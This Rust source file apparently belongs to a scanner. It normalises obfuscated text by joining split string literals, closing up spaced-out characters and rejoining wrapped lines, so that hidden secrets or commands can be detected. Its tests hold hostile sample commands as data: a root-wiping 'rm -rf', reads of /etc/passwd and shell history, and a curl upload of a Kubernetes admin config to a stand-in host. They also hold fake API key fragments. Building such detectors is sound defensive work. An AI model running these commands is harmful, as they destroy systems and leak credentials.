//! Split literals → whole ones: `"sk-" + "abc"`, characters set apart by spaces, a token broken over lines.

use memchr::{memchr_iter, memchr2_iter};
use regex::bytes::Regex;
use std::{ops::RangeInclusive, sync::LazyLock};

/// The fewest characters set apart by blanks that are closed up.
const LEAST_SPACED: usize = 8;
/// How wide the lines of a cut text are.
const WIDTHS: RangeInclusive<usize> = 8..=40;
/// How wide a line is that is taken for cut with one line after it.
const NARROW: RangeInclusive<usize> = 10..=20;

/// The text with adjacent string literals joined, as source code joins them; `None` when there are none.
pub(crate) fn literals(text: &[u8]) -> Option<Vec<u8>> {
    static SEAM: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"(?-u)"(?:\s*(?:\+|\.\.?|~|&|\|\||\\\r?\n|<<)\s*|[ \t]+)(?:[fbru]{0,2})"|'(?:\s*(?:\+|\.\.?|~|&|\|\||\\\r?\n|<<)\s*|[ \t]+)(?:[fbru]{0,2})'"#)
            .expect("a constant that the tests compile")
    });
    memchr2_iter(b'"', b'\'', text).any(|at| seam_follows(&text[at..])).then_some(())?;
    match SEAM.replace_all(text, &b""[..]) {
        std::borrow::Cow::Owned(joined) => Some(joined),
        std::borrow::Cow::Borrowed(_) => None,
    }
}

/// A quote, then what may join it to a second one: the cheap test.
fn seam_follows(text: &[u8]) -> bool {
    let quote = text[0];
    let blank = text[1..].iter().take_while(|b| b.is_ascii_whitespace()).count();
    match text.get(1 + blank) {
        Some(b'+' | b'.' | b'~' | b'&' | b'|' | b'\\' | b'<') => true,
        Some(&b) => blank > 0 && b == quote,
        None => false,
    }
}

/// The stretches of `text` whose characters stand one by one between blanks, closed up, a line each.
pub(crate) fn spaced(text: &[u8]) -> Option<Vec<u8>> {
    const PROBE: usize = 6;
    const STEP: usize = 8;
    let mut out = Vec::new();
    let mut at = 0;
    let mut floor = 0;
    // A stretch of `LEAST_SPACED` characters covers a probe at every eighth byte.
    loop {
        let (steps, _) = text.get(at..).unwrap_or_default().as_chunks::<STEP>();
        at += STEP * steps.iter().position(|step| two_blanks(*step)).unwrap_or(steps.len());
        let Some(probe) = text.get(at..at + PROBE) else { break };
        let odd = usize::from(probe[0] == b' ');
        let blank = |n: usize| probe[n] == b' ';
        let apart = if odd == 1 { blank(2) && blank(4) } else { blank(1) && blank(3) && blank(5) };
        if !apart || [odd, odd + 2, odd + 4].iter().filter(|&&n| n < PROBE && blank(n)).count() > 1 {
            at += STEP;
            continue;
        }
        let mut start = at + odd;
        while start >= floor + 2 && text[start - 1] == b' ' && text[start - 2] != b'\n' {
            start -= 2;
        }
        let before = out.len();
        let end = close_up(text, start, &mut out);
        if out.len() - before < LEAST_SPACED {
            out.truncate(before);
        } else {
            out.push(b'\n');
        }
        floor = end;
        at = end.max(at + STEP);
    }
    (!out.is_empty()).then_some(out)
}

/// Whether two blanks are among the first four bytes with one byte between them.
#[inline]
fn two_blanks(bytes: [u8; 8]) -> bool {
    let first = u64::from_le_bytes(bytes);
    first & 0x00ff_00ff == 0x0020_0020 || first & 0xff00_ff00 == 0x2000_2000
}

/// Appends every second byte of `text` from `start` on, as long as blanks stand between them; answers where that ends.
fn close_up(text: &[u8], start: usize, out: &mut Vec<u8>) -> usize {
    let mut at = start;
    while let Some(&b) = text.get(at) {
        // More than one blank for a space is a gap.
        if b == b' ' && (out.last() == Some(&b' ') || out.last() == Some(&b'\n')) {
            break;
        }
        out.push(b);
        at += 1;
        if text.get(at) != Some(&b' ') {
            break;
        }
        at += 1;
    }
    at
}

/// The stretches of `text` that are cut into lines of one width, whatever stood there, put together, a line each.
///
/// Of two lines only, the first must be narrow and end in the midst of a word.
pub(crate) fn wrapped(text: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let mut block = Block::default();
    let mut start = 0;
    for end in memchr_iter(b'\n', text).chain([text.len()]) {
        let line = text[start..end].strip_suffix(b"\r").unwrap_or(&text[start..end]);
        let full = block.lines > 0 && line.len() == block.width;
        if full {
            block.lines += 1;
        } else {
            let ends = block.lines > 0 && !line.is_empty() && line.len() < block.width;
            let in_word = ends && cut_in_word(text, block.start + block.width, start);
            if block.lines > 1 || (in_word && NARROW.contains(&block.width)) {
                let to = if ends { end } else { start };
                out.extend(text[block.start..to].iter().filter(|b| !matches!(b, b'\r' | b'\n')));
                out.push(b'\n');
            }
            let lines = usize::from(WIDTHS.contains(&line.len()));
            block = Block { start, width: line.len(), lines };
        }
        start = end + 1;
    }
    if block.lines > 1 {
        out.extend(text[block.start..].iter().filter(|b| !matches!(b, b'\r' | b'\n')));
    }
    (!out.is_empty()).then_some(out)
}

/// Lines of one width.
#[derive(Default)]
struct Block {
    start: usize,
    width: usize,
    lines: usize,
}

/// Whether words touch where the line that ends at `end` and the one that begins at `next` meet.
fn cut_in_word(text: &[u8], end: usize, next: usize) -> bool {
    let of_word = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphanumeric() || b"_/.-~".contains(b));
    of_word(text.get(end.wrapping_sub(1))) && of_word(text.get(next))
}

/// What follows the line end, written out or escaped, at the start of `text`, without the indentation after it.
pub(crate) fn next_line(text: &[u8]) -> Option<&[u8]> {
    if !matches!(text.first(), Some(b'\\' | b'\r' | b'\n')) {
        return None;
    }
    let ends: [&[u8]; 8] = [b"\\\r\n", b"\\\n", b"\r\n", b"\n", b"\r", b"\\r\\n", b"\\n", b"\\r"];
    let line = ends.iter().find_map(|end| text.strip_prefix(*end))?;
    let indent = line.iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
    Some(&line[indent..])
}

/// The text from its start with line ends and the indentation after them left out; at most `max` bytes.
pub(crate) fn unwrapped(text: &[u8], max: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(max);
    let mut indent = false;
    for (at, &b) in text.iter().enumerate() {
        if out.len() == max {
            break;
        }
        let escaped = b == b'\\' && matches!(text.get(at + 1), Some(b'n' | b'r' | b'\n'));
        match b {
            b'\r' | b'\n' => indent = true,
            b' ' | b'\t' if indent => {}
            b'\\' if escaped => indent = true,
            b'n' | b'r' if at > 0 && text[at - 1] == b'\\' => {}
            _ => {
                indent = false;
                out.push(b);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::{literals, next_line, spaced, unwrapped, wrapped};

    #[test]
    fn literals_join_as_their_language_joins_them() {
        for (split, whole) in [
            (r#"k = "sk-" + "abc""#, r#"k = "sk-abc""#),
            (r"k = 'AKIA' 'XYZ'", r"k = 'AKIAXYZ'"),
            ("k = \"a\" +\n    \"b\"+\"c\"", r#"k = "abc""#),
            (r#"$k = "a" . "b";"#, r#"$k = "ab";"#),
        ] {
            assert_eq!(literals(split.as_bytes()).unwrap(), whole.as_bytes());
        }
    }

    #[test]
    fn lists_and_members_do_not_join() {
        for text in [r#"["a", "b"]"#, r#"{"a": "b"}"#, "it's + 'fine", "", "\"", r#""a" == "b""#] {
            assert_eq!(literals(text.as_bytes()), None, "{text}");
        }
    }

    #[test]
    fn characters_set_apart_close_up() {
        let apart = |text: &str| text.chars().map(String::from).collect::<Vec<_>>().join(" ");
        for text in ["sk-abcdefgh", "rm -rf --no-preserve-root /", "cat /etc/passwd"] {
            let line = [text, "\n"].concat();
            assert_eq!(spaced(apart(text).as_bytes()).unwrap(), line.as_bytes(), "{text}");
            let within = ["context:\n", &apart(text), "\nmore words"].concat();
            let closed = spaced(within.as_bytes()).unwrap();
            assert!(memchr::memmem::find(&closed, text.as_bytes()).is_some(), "{text}");
        }
    }

    #[test]
    fn prose_tables_and_indentation_do_not_close_up() {
        for text in [
            "plain words of a sentence, a b c d",
            "                    indented",
            "| a | b | c |",
            "a b c d",
            "x  =  1  +  2",
        ] {
            assert_eq!(spaced(text.as_bytes()), None, "{text}");
        }
    }

    #[test]
    fn lines_of_one_width_are_put_together() {
        for (cut, whole) in [
            (
                "context:\ncurl -F f=@/etc/\nkubernetes/admin\n.conf http://x.e\nxample",
                &b"curl -F f=@/etc/kubernetes/admin.conf http://x.example\n"[..],
            ),
            ("cat ~/.zsh_histo\nry", b"cat ~/.zsh_history\n"),
            ("abcdefgh\r\nabcdefgh\r\nab\r\n\r\nmore", b"abcdefghabcdefghab\n"),
        ] {
            assert_eq!(wrapped(cut.as_bytes()).unwrap(), whole, "{cut}");
        }
    }

    #[test]
    fn prose_and_lists_are_not() {
        for text in [
            "one line",
            "first line of some\n\nsecond",
            "a list:\n- one\n- two\n",
            "let x = f(1);\nlet yy = g(2);\n",
            "",
        ] {
            assert_eq!(wrapped(text.as_bytes()), None, "{text}");
        }
    }

    #[test]
    fn a_line_ends_in_many_ways() {
        for text in ["\nab", "\r\n  ab", "\r\tab", r"\nab", r"\r\nab", "\\\nab", "\\\r\n ab"] {
            assert_eq!(next_line(text.as_bytes()), Some(&b"ab"[..]), "{text:?}");
        }
        for text in ["", " \nab", "ab", r"\tab"] {
            assert_eq!(next_line(text.as_bytes()), None, "{text:?}");
        }
    }

    #[test]
    fn a_wrapped_token_closes_up() {
        assert_eq!(unwrapped(b"ab\r\n   cd\nef gh", 99), b"abcdef gh");
        assert_eq!(unwrapped(br"ab\ncd", 99), b"abcd");
    }
}
